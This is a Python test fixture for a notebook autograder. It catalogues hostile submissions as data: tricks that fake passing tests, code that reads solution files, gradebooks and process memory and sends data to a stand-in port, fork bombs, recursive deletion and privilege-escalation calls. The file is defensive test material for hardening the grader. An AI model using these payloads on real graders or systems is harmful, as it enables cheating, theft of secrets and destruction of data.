"""Attacks on grading: each a small submission, as data, with one line on what it tries. More are in disguises.py.

In their code, @name@ stands for something outside that the test knows: course, home, canary, tcp, udp, tests (the
process that runs the tests), wrong (an answer that is not right).
"""

from collections.abc import Callable
from dataclasses import dataclass, field

from nbformat.notebooknode import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell
from tiny_course import LESSON, cell, graded

WRONG = "def double(x):\n    return 4"


@dataclass(frozen=True)
class Attack:
    """tries: what, in one line. double: the answer to the task that must give no points. start: a cell of its own.

    change: something to do to the notebook itself. files: to lay beside it. dies: whether it may end its own grading.
    flagged: whether it must be noticed. slow: whether only the exhaustive run has it.
    """

    tries: str
    double: str = WRONG
    start: str = ""
    change: Callable[[NotebookNode], object] = lambda notebook: None
    files: dict[str, str] = field(default_factory=dict)
    dies: bool = False
    flagged: bool = False
    slow: bool = True


def in_double(statement: str) -> str:
    """A wrong answer that does something when it is tested."""
    body = "\n".join(f"    {line}" for line in statement.splitlines())
    return f"def double(x):\n{body}\n    return 4"


def shell(statement: str) -> Attack:
    return Attack("", start=f"ip = get_ipython()\n{statement}", flagged=True)


def of(attack: Attack, tries: str, **changes: object) -> Attack:
    return Attack(**{**vars(attack), "tries": tries, **changes})


def leave(name: str, **values: object) -> Callable[[NotebookNode], object]:
    """Change the metadata of a cell."""
    return lambda notebook: cell(notebook, name).metadata.update(**values)


def _points(notebook: NotebookNode) -> None:
    cell(notebook, "double-test").metadata.nbgrader["points"] = 100


def _emptied(notebook: NotebookNode) -> None:
    cell(notebook, "double-test").source = "pass"


def _without_test(notebook: NotebookNode) -> None:
    notebook.cells.remove(cell(notebook, "double-test"))


def _second_test(notebook: NotebookNode) -> None:
    notebook.cells.append(new_code_cell("pass", metadata=cell(notebook, "double-test").metadata))


def _invented(notebook: NotebookNode) -> None:
    details = graded("bonus", grade=True, locked=True, points=1000)
    notebook.cells.append(new_code_cell("pass", id="bonus", metadata=details))


def _as_prose(notebook: NotebookNode) -> None:
    cell(notebook, "double-test").cell_type = "markdown"


def _swapped(notebook: NotebookNode) -> None:
    one, other = (cell(notebook, name).metadata.nbgrader for name in ("double-test", "halve-test"))
    one["grade_id"], other["grade_id"] = other["grade_id"], one["grade_id"]


def _as_answer(notebook: NotebookNode) -> None:
    cell(notebook, "double-test").metadata.nbgrader.update(solution=True, locked=False)
    cell(notebook, "double-test").source = "pass"


def _old_schema(notebook: NotebookNode) -> None:
    cell(notebook, "double-test").metadata.nbgrader["schema_version"] = 1


def _other_kernel(notebook: NotebookNode) -> None:
    notebook.metadata["kernelspec"] = {"name": "../../evil", "display_name": "x", "language": "python"}


def _script(notebook: NotebookNode) -> None:
    notebook.metadata["title"] = "</title><script>1</script>"
    notebook.cells.append(new_markdown_cell("<script>1</script><img src=x onerror=1>"))


POINTS = {
    "unittest_agrees": Attack(
        "unittest's own check made to agree with everything",
        "unittest.TestCase.assertEqual = lambda *a, **k: None\ndef double(x): return 10 if x == 5 else 16 if x == 8 else 4",
        flagged=True,
        slow=False,
    ),
    "pandas_testing_agrees": Attack(
        "what pandas.testing compares tables with, replaced by something that agrees",
        "pd._testing.asserters.assert_series_equal = lambda *a, **k: None\n"
        "def double(x): return {5: 10, 7: 14}.get(x, 4)",
        flagged=True,
        slow=False,
    ),
    "equals_everything": Attack(
        "an object that equals everything",
        "class All:\n    def __eq__(self, o): return True\n    def __ne__(self, o): return False\n"
        "def double(x): return All()",
        flagged=True,
        slow=False,
    ),
    "equals_by_inheritance": Attack(
        "a number that is never unequal",
        "class N(int):\n    def __ne__(self, o): return False\n    __eq__ = lambda s, o: True\n"
        "def double(x): return N(4)",
        flagged=True,
    ),
    "array_that_decides": Attack(
        "an array whose comparisons are always true",
        "class A(np.ndarray):\n    def __array_ufunc__(self, *a, **k): return True\n"
        "def double(x): return np.array(4).view(A)",
        flagged=True,
    ),
    "patches_numpy_testing": Attack(
        "numpy.testing that accepts everything",
        start="np.testing.assert_equal = lambda *a, **k: None",
        flagged=True,
        slow=False,
    ),
    "patches_by_another_name": Attack(
        "the same, found without its name",
        start="t = getattr(np, 'test' + 'ing')\nsetattr(t, 'assert_equal', print)",
        flagged=True,
        slow=False,
    ),
    "swaps_code": Attack(
        "other code in the same function",
        start="t = getattr(np, 'test' + 'ing')\n"
        "setattr(t.assert_equal, '__co' + 'de__', (lambda *a, **k: None).__getattribute__('__co' + 'de__'))",
        flagged=True,
    ),
    "patches_while_tested": Attack(
        "patching in the middle of a test",
        in_double("t = getattr(np, 'test' + 'ing')\nt.assert_equal = lambda *a, **k: None"),
        flagged=True,
    ),
    "replaces_module": Attack(
        "another module in the place of numpy.testing",
        start="import sys, types\nfake = types.ModuleType('t')\nfake.assert_equal = print\n"
        "getattr(sys, 'mod' + 'ules')['numpy.test' + 'ing'] = fake\nsetattr(np, 'test' + 'ing', fake)",
        flagged=True,
    ),
    "patches_feedback": Attack(
        "an error of the course that is no error",
        start="from ai_lifecycle.feedback import outcome\noutcome.NotYet = lambda text: SystemExit(0)",
        flagged=True,
    ),
    "patches_feedback_unnamed": Attack(
        "the same, found without its name",
        start="o = globals()['out' + 'come']\nsetattr(o, 'Not' + 'Yet', lambda text: SystemExit(0))",
        flagged=True,
    ),
    "patches_built_in": Attack(
        "a built-in function that the tests use",
        start="import builtins\nbuiltins.AssertionError = KeyError",
        flagged=True,
    ),
    "patches_built_in_unnamed": Attack(
        "the same, found without its name",
        start="b = print.__self__\nsetattr(b, 'isinstance', lambda *a: True)",
        dies=True,
        flagged=True,
    ),
    "hides_traceback": of(shell("ip.showtraceback = lambda *a, **k: None"), "errors that nobody sees", slow=False),
    "hides_traceback_in_class": of(
        shell("type(ip)._showtraceback = lambda *a, **k: None"), "the same, in IPython's own class"
    ),
    "handles_all_errors": of(
        shell("ip.set_custom_exc((Exception,), lambda *a, **k: None)"), "a handler that swallows every error"
    ),
    "rewrites_syntax": of(
        shell(
            "import ast\nclass T(ast.NodeTransformer):\n    def visit_Raise(self, n): return ast.Pass()\n"
            "    def visit_Expr(self, n): return n\n"
            "ip.ast_transformers.append(T())"
        ),
        "a rewriter of syntax trees that takes out `raise`",
    ),
    "rewrites_input": of(
        shell("ip.input_transformers_post.append(lambda lines: ['pass\\n'])"),
        "a rewriter of input that empties cells",
        slow=False,
    ),
    "acts_before_cells": of(
        shell("ip.events.register('pre_run_cell', lambda info: ip.user_ns.update(double=lambda x: {2: 4, 5: 10}[x]))"),
        "an answer that is put in place just before a cell runs",
    ),
    "runs_nothing": of(
        shell("run = ip.run_cell\nip.run_cell = lambda *a, **k: run('pass', **k)"), "a shell that runs something else"
    ),
    "patches_kernel": of(
        shell("k = ip.kernel\nk.do_execute = lambda *a, **k: {'status': 'ok'}"), "a kernel that only says it ran a cell"
    ),
    "aborts_cells": of(shell("ip.kernel._aborting = True"), "a kernel that declines every cell from here on"),
    "forges_replies": of(
        shell(
            "s = ip.kernel.session\nsend = s.send\ndef forge(stream, kind, content=None, *a, **k):\n"
            "    if isinstance(content, dict) and content.get('status') == 'error': content = {**content, "
            "'status': 'ok'}\n"
            "    if kind == 'error': return\n    return send(stream, kind, content, *a, **k)\ns.send = forge"
        ),
        "replies and outputs without their errors",
    ),
    "traces": Attack(
        "a tracer that jumps over the lines of a test",
        start="import sys\ndef tracer(frame, event, arg):\n    return tracer\nsys.settrace(tracer)",
        flagged=True,
    ),
    "reads_caller": Attack(
        "the variables of whoever calls the function",
        "import sys\ndef double(x):\n    sys._getframe(1).f_globals['outcome'] = None\n    return 4",
        flagged=True,
        slow=False,
    ),
    "mock_any": Attack(
        "a library's object that equals everything", "from unittest.mock import ANY\ndef double(x): return ANY", flagged=True
    ),
    "renames_error": Attack("an error class that is not one", start="outcome = type('o', (), {'NotYet': SystemExit})"),
    "exits": Attack("ending quietly when tested", in_double("raise SystemExit(0)"), slow=False),
    "interrupts": Attack("looking like an interrupted cell", in_double("raise KeyboardInterrupt")),
    "displays_points": Attack(
        "a displayed number that is read as points", in_double("import sys\nsys.displayhook(2.0)"), slow=False
    ),
    "displays_nan": Attack(
        "a displayed nan, which counts in full", in_double("import sys\nsys.displayhook(float('nan'))")
    ),
    "clears_output": Attack(
        "taking the shown error away again, from a thread",
        "import threading, time\nfrom IPython.display import clear_output\ndef wipe():\n    for _ in range(50):\n"
        "        time.sleep(0.005); clear_output()\n" + in_double("threading.Thread(target=wipe).start()"),
    ),
    "skips_test": Attack(
        "a tag by which a cell is not run", change=leave("double-test", tags=["skip-execution"]), slow=False
    ),
    "empties_test": Attack("a test without content", change=_emptied),
    "raises_points": Attack("more points for a test", change=_points),
    "deletes_test": Attack("no test", change=_without_test),
    "doubles_test": Attack("a second, empty test of the same name", change=_second_test),
    "invents_test": Attack("a test of its own, worth a thousand points", change=_invented),
    "makes_prose_of_test": Attack("a test that is prose", change=_as_prose),
    "swaps_tests": Attack("two tests that have changed names", change=_swapped),
    "makes_answer_of_test": Attack("a test that calls itself an answer", change=_as_answer),
    "old_schema": Attack("metadata of an older nbgrader, which stops a stock run", change=_old_schema),
    "other_kernel": Attack("a kernel of another name", change=_other_kernel),
    "title_with_script": Attack("a script in the notebook's title and prose", change=_script),
    "shadows_numpy": Attack(
        "a file that Python would import in place of NumPy",
        files={"numpy.py": "from os import *\ndef __getattr__(n): return print"},
    ),
    "shadows_course": Attack(
        "a folder that Python would import in place of the course",
        files={
            "ai_lifecycle/__init__.py": "",
            "ai_lifecycle/feedback/__init__.py": "",
            "ai_lifecycle/feedback/outcome.py": "NotYet = print",
        },
        slow=False,
    ),
    "shadows_start": Attack(
        "code that Python runs when it starts", files={"sitecustomize.py": "import os; os._exit(0)"}
    ),
    "writes_shadow": Attack(
        "the same file, written when the notebook runs",
        start="open('outcome.py', 'w').write('NotYet = print')\nimport outcome",
    ),
}

_READ = """
import os
def tell(path):
    try:
        for folder, _, names in [(path, [], [''])] if os.path.isfile(path) else os.walk(path):
            for name in names:
                print(open(os.path.join(folder, name), 'rb').read())
    except Exception as error:
        print(error)
"""
SECRETS = {
    "reads_solutions": Attack("the solutions", start=f"{_READ}tell('@course@/solutions')", slow=False),
    "reads_gradebook": Attack("the gradebook", start=f"{_READ}tell('@course@/gradebook.db')"),
    "reads_neighbours": Attack(
        "what others handed in", start=f"{_READ}tell('@course@/submitted')\ntell('@course@/.grading')"
    ),
    "reads_home": Attack(
        "the instructor's home folder",
        start=f"{_READ}tell('@home@')\ntell(os.path.expanduser('~'))\nprint(os.listdir('/root'))",
    ),
    "reads_environment": Attack(
        "variables of this and of other processes",
        start=f"{_READ}print(dict(os.environ))\nfor p in os.listdir('/proc'):\n    tell(f'/proc/{{p}}/environ')",
        slow=False,
    ),
    "reads_through_proc": Attack(
        "another process' root folder and open files",
        start=f"{_READ}for p in ['1', 'self', '@tests@']:\n    tell(f'/proc/{{p}}/root@course@/solutions')\n"
        f"    tell(f'/proc/{{p}}/cwd')",
    ),
    "reads_memory": Attack(
        "the memory of the process it was forked from",
        start="import re\ntry:\n    m = open('/proc/self/mem', 'rb')\n    for line in open('/proc/self/maps'):\n"
        "        a, b = (int(x, 16) for x in line.split()[0].split('-'))\n"
        "        if 'r' in line.split()[1] and b - a < 1 << 26:\n"
        "            m.seek(a)\n            found = re.search(rb'SECRET-(e[n]v|h[o]me|s[o]lution)', m.read(b - a))\n"
        "            if found: print(found[0])\nexcept (OSError, ValueError) as e: print(e)",
    ),
    "room_becomes_a_link": Attack(
        "a link to somewhere else, in the place of its own folder and back, again and again",
        start="import ctypes, os, threading, time\nhere = os.getcwd().encode()\nway = os.path.dirname(here) + b'/way'\n"
        "os.symlink('@home@', way)\nexchange = ctypes.CDLL(None).renameat2\ndef swap():\n"
        "    while True:\n        exchange(-100, here, -100, way, 2)\n        time.sleep(0.0003)\nthreading.Thread(target=swap).start()",
        flagged=True,
        slow=False,
    ),
    "links_out": Attack(
        "links that whoever copies files would follow",
        start="import os\nfor n in ('data.txt', 'timestamp.txt'):\n    os.symlink('@course@/gradebook.db', n)\n"
        "for n in os.listdir('.'):\n    if n.endswith('.ipynb'): os.remove(n); os.symlink('@canary@', n)",
    ),
    "sends_by_tcp": Attack(
        "sending the tests away",
        start="import socket\ntry:\n    socket.create_connection(('127.0.0.1', @tcp@), 2).send(b'stolen')\n"
        "except OSError as e: print(e)",
        slow=False,
    ),
    "sends_by_udp": Attack(
        "the same without a connection",
        start="import socket\ntry:\n"
        "    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'stolen', ('127.0.0.1', @udp@))\n"
        "except OSError as e: print(e)",
    ),
    "asks_names": Attack(
        "a name look-up, which also leaves the machine",
        start="import socket\ntry:\n    print('resolved', socket.getaddrinfo('localhost.example.org', 80))\n"
        "except OSError as e: print(e)",
    ),
    "starts_program": Attack(
        "another program that reads for it", start="!cat @course@/solutions/*/*.ipynb @home@/*\n!env"
    ),
}

HARM = {
    "deletes_everything": Attack(
        "deleting all that can be deleted",
        start="import shutil\nfor p in ('@course@', '@home@', '/usr/lib', '/work', '/home'):\n"
        "    shutil.rmtree(p, ignore_errors=True)",
        slow=False,
    ),
    "writes_outside": Attack(
        "writing where others read",
        start="for p in ('@canary@', '@course@/gradebook.db', '@course@/nbgrader_config.py', np.__file__):\n    try:\n"
        "        open(p, 'w').write('harmed')\n    except OSError as e: print(e)",
        slow=False,
    ),
    "kills_processes": Attack(
        "ending every process there is",
        start="import os, signal\nfor p in (-1, os.getppid(), @tests@):\n    try:\n        os.kill(p, 9)\n"
        "    except OSError as e: print(e)",
        dies=True,
        flagged=False,
    ),
    "forks_without_end": Attack(
        "more processes than the machine holds",
        start="import os\nfor _ in range(3000):\n    try:\n        if os.fork() == 0:\n"
        "            import time; time.sleep(30); os._exit(0)\n    except OSError: break",
        dies=True,
    ),
    "threads_without_end": Attack(
        "more threads than the machine holds",
        start="import threading, time\ntry:\n"
        "    for _ in range(5000): threading.Thread(target=time.sleep, args=(30,), daemon=True).start()\n"
        "except RuntimeError as e: print(e)",
        dies=True,
    ),
    "fills_memory": Attack(
        "more memory than there is", start="held = [bytearray(1 << 28) for _ in range(400)]", dies=True
    ),
    "fills_disk": Attack(
        "a file without end", start="with open('big', 'wb') as f:\n    for _ in range(1000): f.write(bytes(1 << 20))"
    ),
    "fills_disk_with_files": Attack(
        "file after file of the size that one may have",
        start="for n in range(1000):\n    with open(f'big{n}', 'wb') as f:\n        for _ in range(255): f.write(bytes(1 << 20))",
        dies=True,
        slow=False,
    ),
    "fills_disk_without_names": Attack(
        "the same, with files that no folder names any more",
        start="import os\nheld = []\nfor n in range(900):\n    held.append(open('big', 'wb'))\n    os.remove('big')\n"
        "    for _ in range(255): held[-1].write(bytes(1 << 20))",
        dies=True,
    ),
    "fills_disk_at_once": Attack(
        "disk space that is asked for and not written to",
        start="import os\nfor n in range(1000):\n    with open(f'big{n}', 'wb') as f:\n"
        "        try: os.posix_fallocate(f.fileno(), 0, 255 << 20)\n        except OSError as e: print(e)",
        dies=True,
    ),
    "fills_disk_with_holes": Attack(
        "a file that looks large, and many names for one",
        start="import os\nopen('big', 'wb').truncate(255 << 20)\nfor n in range(800): os.link('big', f'big{n}')",
    ),
    "fills_disk_deep_down": Attack(
        "folders in folders, deeper than anybody goes, with something at the bottom",
        start="import os\nfor n in range(20_000):\n    os.mkdir('d'); os.chdir('d')\n"
        "    if n % 500 == 0: open('big', 'wb').write(bytes(1 << 20))\nimport time; time.sleep(5)",
        dies=True,
    ),
    "fills_disk_with_nothing": Attack(
        "more empty files than a disk has room for",
        start="for n in range(10_000_000): open(f'f{n}', 'w').close()",
        dies=True,
    ),
    "floods_output": Attack("output without end", start="while True: print('x' * 1000)", slow=False),
    "floods_faster": Attack(
        "the same, faster than it can be read", start="while True: print('x' * 100_000)", dies=True
    ),
    "floods_at_once": Attack("one output larger than what is read", start="print('x' * 200_000_000)", dies=True),
    "loops": Attack("a loop without end", start="while True: pass"),
    "ignores_interrupt": Attack(
        "a loop that ignores the interrupt",
        start="import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True: pass",
        dies=True,
    ),
    "outlives_as_daemon": Attack(
        "a process that goes on afterwards",
        start="import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
        "        time.sleep(600)\n    os._exit(0)",
        slow=False,
    ),
    "outlives_at_exit": Attack(
        "something done when Python ends",
        start="import atexit\natexit.register(lambda: open('@canary@', 'w').write('harmed'))",
    ),
    "ends_kernel": Attack("ending Python when tested", in_double("import os\nos._exit(0)"), dies=True),
    "crashes_kernel": Attack("crashing Python", start="import ctypes\nctypes.string_at(0)", dies=True),
    "waits_for_input": Attack("waiting for somebody to type", start="input('?')"),
    "recurses": Attack(
        "recursion without end", start="import sys\nsys.setrecursionlimit(10**6)\ndef f(): f()\nf()", dies=True
    ),
    "mounts": Attack(
        "more rights, by the system's own means",
        start="import ctypes, os\nc = ctypes.CDLL(None)\n"
        "print(c.unshare(0x10000000), c.mount(b'none', b'/', b'tmpfs', 0, 0), c.setuid(0), c.chroot(b'/'))\n"
        "os.system('chmod 777 @canary@')",
    ),
    "odd_error": Attack(
        "an error that cannot be shown",
        in_double("class E(Exception):\n    def __str__(self): raise E\n    __repr__ = __str__\nraise E"),
    ),
    "huge_error": Attack("an error as long as a book", in_double("raise ValueError('x' * 30_000_000)")),
}

ATTACKS = {**POINTS, **SECRETS, **HARM}
STEP = LESSON.step
